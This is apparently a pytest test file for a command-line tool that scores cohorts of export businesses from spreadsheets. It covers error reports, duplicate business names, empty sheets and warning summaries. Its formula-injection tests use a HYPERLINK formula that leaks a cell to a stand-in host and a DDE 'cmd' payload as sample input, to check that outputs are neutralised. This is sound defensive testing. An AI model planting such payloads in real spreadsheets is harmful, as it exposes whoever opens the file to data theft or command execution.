"""What a trainer meets on a real cohort: errors.csv names the business, a name on two rows is told, a sheet
without businesses is one clear error, repeated warnings are one line, and every output opens safely in Excel."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from cbectool.cli import app
from cbectool.cohort.batch import BatchOptions, Shard, run_batch
from cbectool.cohort.columns import layout_for
from cbectool.cohort.duplicates import DuplicateName
from cbectool.cohort.outputs import ERROR_COLUMNS, original_text, spreadsheet_text
from cbectool.cohort.stats import CohortStats
from cbectool.cohort.summary import build_summary
from cbectool.cohort.template import csv_template, write_template
from cbectool.notices import Notice, summarize
from cbectool.questionnaire import Questionnaire
from cbectool.scoring import Evaluated

runner = CliRunner()
ANSWERS = {
    "pay_receive_channel": "fcy_account",
    "pay_invoice_fcy": "yes",
    "pay_refunds": "no",
    "log_channel": "post",
    "log_courier_registered": "",
    "log_hs_code": "yes",
    "log_dispatch_days": "3",
    "plat_presence": "alibaba",
    "plat_reply_hours": "6",
    "plat_listing_photos": "some",
    "plat_contact_name": "",
}


def write_sheet(path: Path, rows: list[dict[str, str]]) -> Path:
    columns = ["business_name", "city", *ANSWERS]
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, columns)
        writer.writeheader()
        for row in rows:
            writer.writerow({**ANSWERS, **row})
    return path


def table(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


def batch(starter_path: Path, sheet: Path, out: Path, *extra: str) -> tuple[int, str, str]:
    result = runner.invoke(app, ["batch", str(sheet), "-q", str(starter_path), "--out", str(out), *extra])
    return result.exit_code, result.stdout, result.stderr


def fake_render(evaluated: Evaluated, template_dir: Path | None, lang: str) -> bytes:
    return b"%PDF-fake"


# errors.csv names the business ---------------------------------------------------------------------------


def test_errors_csv_adds_the_business_name_after_the_columns_it_had(starter_path: Path, tmp_path: Path) -> None:
    sheet = write_sheet(
        tmp_path / "c.csv",
        [{"business_name": "Good One"}, {"business_name": "  Zam   Zam Exports ", "pay_invoice_fcy": "maybe"}],
    )
    code, _, _ = batch(starter_path, sheet, tmp_path / "out", "--no-summary")
    assert code == 3
    with (tmp_path / "out" / "errors.csv").open(encoding="utf-8-sig", newline="") as stream:
        header, *lines = list(csv.reader(stream))
    assert header == ["row", "column", "value", "problem", "business_name"]  # the old four first, in order
    assert tuple(header) == ERROR_COLUMNS
    assert [(line[0], line[1], line[4]) for line in lines] == [("3", "pay_invoice_fcy", "Zam Zam Exports")]


def test_merge_takes_errors_csv_of_shards_made_before_the_business_name_column(
    starter_path: Path, tmp_path: Path
) -> None:
    sheet = write_sheet(
        tmp_path / "c.csv",
        [{"business_name": f"Firm {n}", "pay_invoice_fcy": "maybe" if n in (1, 2) else "yes"} for n in range(6)],
    )
    shards = []
    for index in (1, 2):
        out = tmp_path / f"shard-{index}"
        run_batch(BatchOptions(sheet, out, str(starter_path), summary=False, xlsx=False, shard=Shard(index, 2)))
        shards.append(out)
    old = shards[0] / "errors.csv"  # as version 0.1 wrote it: four columns
    lines = table(old)
    with old.open("w", encoding="utf-8-sig", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["row", "column", "value", "problem"])
        writer.writerows([line["row"], line["column"], line["value"], line["problem"]] for line in lines)
    result = runner.invoke(
        app, ["batch-merge", *map(str, shards), "-q", str(starter_path), "-o", str(tmp_path / "m"), "--no-summary"]
    )
    assert result.exit_code == 3, result.stderr
    merged = table(tmp_path / "m" / "errors.csv")
    # row 4 comes from the old shard (no name known), row 3 from the new one
    assert [(line["row"], line["business_name"]) for line in merged] == [("3", "Firm 1"), ("4", "")]


# A name on two rows ----------------------------------------------------------------------------------------


def test_a_name_on_two_rows_is_told_in_the_console_and_both_rows_are_kept(starter_path: Path, tmp_path: Path) -> None:
    sheet = write_sheet(
        tmp_path / "c.csv",
        [
            {"business_name": "Ali Sports", "city": "Sialkot"},
            {"business_name": "Other"},
            {"business_name": "ali  SPORTS ", "city": "Lahore"},
            {"business_name": "Other"},
            {"business_name": "Unique"},
        ],
    )
    code, stdout, stderr = batch(starter_path, sheet, tmp_path / "out", "--no-summary")
    assert code == 0
    assert "Scored 5 of 5 businesses." in stdout
    assert stderr == (
        "Warning: 2 business names are on more than one row: 'ali SPORTS' (rows 2 and 4), 'Other' (rows 3 and 5); "
        "all rows are kept and scored (two businesses may share a name)\n"
    )
    assert [row["business_name"] for row in table(tmp_path / "out" / "scores.csv")] == [
        "Ali Sports", "Other", "ali  SPORTS ".strip(), "Other", "Unique"
    ]  # fmt: skip


def test_the_summary_lists_names_on_two_rows_and_tells_the_rows_apart(starter: Questionnaire, tmp_path: Path) -> None:
    from cbectool.scoring import assess, validate_answers

    stats = CohortStats.for_questionnaire(starter)
    assessment = assess(starter, validate_answers(starter, ANSWERS))
    for row, name in ((2, "Ali Sports"), (3, "Other"), (4, "Ali Sports")):
        stats.add(row, name, "", assessment)
    summary = build_summary(stats, starter, duplicates=[DuplicateName("Ali Sports", (2, 4))])
    assert summary.duplicates == (DuplicateName("Ali Sports", (2, 4)),)
    names = [row.name for row in (*summary.ready, *summary.not_ready)]
    assert sorted(names) == ["Ali Sports (row 2)", "Ali Sports (row 4)", "Other"]


@pytest.mark.slow
def test_the_summary_pdf_says_so(starter_path: Path, tmp_path: Path) -> None:
    from pypdf import PdfReader

    sheet = write_sheet(tmp_path / "c.csv", [{"business_name": "Ali Sports"}, {"business_name": "Ali Sports"}])
    code, _, _ = batch(starter_path, sheet, tmp_path / "out", "--no-xlsx")
    assert code == 0
    text = " ".join(
        " ".join(page.extract_text() for page in PdfReader(tmp_path / "out" / "cohort-summary.pdf").pages).split()
    )
    assert "The same business name is on more than one row." in text
    assert "Ali Sports (rows 2 and 3)" in text
    assert "Ali Sports (row 2)" in text and "Ali Sports (row 3)" in text


def test_merge_tells_of_names_on_rows_of_different_shards(starter_path: Path, tmp_path: Path) -> None:
    sheet = write_sheet(tmp_path / "c.csv", [{"business_name": "Same"}, {"business_name": "Same"}])
    shards = []
    for index in (1, 2):
        out = tmp_path / f"shard-{index}"
        result = run_batch(
            BatchOptions(sheet, out, str(starter_path), reports=True, workers=1, summary=False, shard=Shard(index, 2)),
            renderer=fake_render,
        )
        assert [duplicate.rows for duplicate in result.duplicates] == [(2, 3)]  # each shard sees every name
        shards.append(out)
    result = runner.invoke(
        app, ["batch-merge", *map(str, shards), "-q", str(starter_path), "-o", str(tmp_path / "m"), "--no-summary"]
    )
    assert result.exit_code == 0
    assert result.stderr == (
        "Warning: rows 2 and 3 have the same business name, 'Same'; both are kept and scored "
        "(two businesses may share a name)\n"
    )


# A sheet without businesses ------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["csv", "xlsx", "header-only"])
def test_a_sheet_without_businesses_is_one_error_and_writes_nothing(
    starter_path: Path, starter: Questionnaire, tmp_path: Path, kind: str
) -> None:
    if kind == "header-only":
        sheet = tmp_path / "cohort.csv"
        sheet.write_text(csv_template(layout_for(starter)).splitlines()[0] + "\n", encoding="utf-8")
    else:
        sheet = tmp_path / f"cohort.{kind}"
        write_template(layout_for(starter), sheet)
    out = tmp_path / "out"
    code, stdout, stderr = batch(starter_path, sheet, out, "--reports")
    assert code == 2
    assert stderr == (
        f"Error: {sheet}: the sheet has no businesses: no row below the header is filled in; "
        "write one business per row, then run this again\n"
    )
    assert stdout == ""
    assert not out.exists()


def test_a_header_missing_many_questions_gives_one_warning_line(starter_path: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "c.csv"
    sheet.write_text("business_name,pay_invoice_fcy\nOne,yes\n", encoding="utf-8")
    code, _, stderr = batch(starter_path, sheet, tmp_path / "out", "--no-summary")
    assert code == 3
    assert stderr == (
        f"Warning: {sheet}: no column for 10 questions: pay_receive_channel, pay_refunds, log_channel, "
        "log_courier_registered, log_hs_code, log_dispatch_days, plat_presence, plat_reply_hours, …; "
        "every row is read as if they were blank\n"
    )


def test_warnings_of_one_kind_become_one_line_with_a_count() -> None:
    def missing(item: str) -> Notice:
        return Notice("missing", item, f"no column '{item}'", "no column for {count} questions: {items}")

    assert summarize(["first", missing("a"), "first", "second"]) == ["first", "no column 'a'", "second"]
    assert summarize([missing("a"), "between", missing("b"), missing("a")]) == [
        "no column for 2 questions: a, b",
        "between",
    ]
    many = [missing(f"q{n}") for n in range(12)]
    assert summarize(many) == ["no column for 12 questions: q0, q1, q2, q3, q4, q5, q6, q7, …"]


# Formula injection ------------------------------------------------------------------------------------------

DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"Click")', "+1+2", "-3+4", "@SUM(A1)", "\tTabbed", "  =1+1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_a_spreadsheet_would_run_is_quoted_once(text: str) -> None:
    safe = spreadsheet_text(text)
    assert safe == "'" + text
    assert spreadsheet_text(safe) == safe  # a merge may protect again
    assert original_text(safe) == text


@pytest.mark.parametrize("text", ["Ali Sports", "", "3.5", "'quoted", "علی", "a=b", "100%"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert spreadsheet_text(text) == text == original_text(text)


def test_scores_and_errors_open_safely_in_a_spreadsheet(starter_path: Path, tmp_path: Path) -> None:
    rows = [{"business_name": name, "city": "=cmd|' /C calc'!A0"} for name in DANGEROUS[:4]]
    rows.append({"business_name": "-Bad Row", "pay_invoice_fcy": "=1+1"})
    sheet = write_sheet(tmp_path / "c.csv", rows)
    code, _, _ = batch(starter_path, sheet, tmp_path / "out", "--no-summary")
    assert code == 3
    scores = table(tmp_path / "out" / "scores.csv")
    assert [row["business_name"] for row in scores] == ["'" + name for name in DANGEROUS[:4]]
    assert all(row["city"] == "'=cmd|' /C calc'!A0" for row in scores)
    assert all(float(row["overall_score"]) >= 0 for row in scores)  # numbers stay numbers
    (error,) = table(tmp_path / "out" / "errors.csv")
    assert (error["value"], error["business_name"]) == ("'=1+1", "'-Bad Row")
    assert error["problem"].startswith("'=1+1' is not one of the answers")

    workbook = load_workbook(tmp_path / "out" / "scores.xlsx")
    sheet_rows = list(workbook["Scores"].iter_rows())
    header = [cell.value for cell in sheet_rows[0]]
    for line, name in zip(sheet_rows[1:], DANGEROUS[:4], strict=True):
        cell = line[header.index("business_name")]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (name, "s", True)  # the real name, as text
        score = line[header.index("overall_score")]
        assert isinstance(score.value, int | float) and score.data_type == "n"
        assert isinstance(line[header.index("row")].value, int)


def test_merge_protects_the_text_of_shards_from_older_versions(starter_path: Path, tmp_path: Path) -> None:
    sheet = write_sheet(tmp_path / "c.csv", [{"business_name": "=Evil()"}, {"business_name": "Fine"}])
    shards = []
    for index in (1, 2):
        out = tmp_path / f"shard-{index}"
        run_batch(BatchOptions(sheet, out, str(starter_path), summary=False, xlsx=False, shard=Shard(index, 2)))
        shards.append(out)
    scores = shards[1] / "scores.csv"  # row 2 is in shard 2 (2 % 2 == 0); unprotect it, as older versions wrote
    text = scores.read_text(encoding="utf-8-sig").replace("'=Evil()", "=Evil()")
    scores.write_text(text, encoding="utf-8-sig")
    assert "'=Evil" not in scores.read_text(encoding="utf-8-sig")
    result = runner.invoke(app, ["batch-merge", *map(str, shards), "-q", str(starter_path), "-o", str(tmp_path / "m")])
    assert result.exit_code == 0, result.stderr
    assert [row["business_name"] for row in table(tmp_path / "m" / "scores.csv")] == ["'=Evil()", "Fine"]
    cell = load_workbook(tmp_path / "m" / "scores.xlsx")["Scores"]["B2"]
    assert (cell.value, cell.data_type) == ("=Evil()", "s")


def test_stats_keep_the_names_as_given(starter_path: Path, tmp_path: Path) -> None:
    """Only the spreadsheets are protected: the summary and reports show the name itself."""
    sheet = write_sheet(tmp_path / "c.csv", [{"business_name": "+Plus Traders"}])
    run_batch(BatchOptions(sheet, tmp_path / "out", str(starter_path), summary=False, xlsx=False))
    stats = json.loads((tmp_path / "out" / "cohort-stats.json").read_text(encoding="utf-8"))
    assert [entry[4] for entry in stats["ready"] + stats["not_ready"]] == ["+Plus Traders"]  # stats.Entry
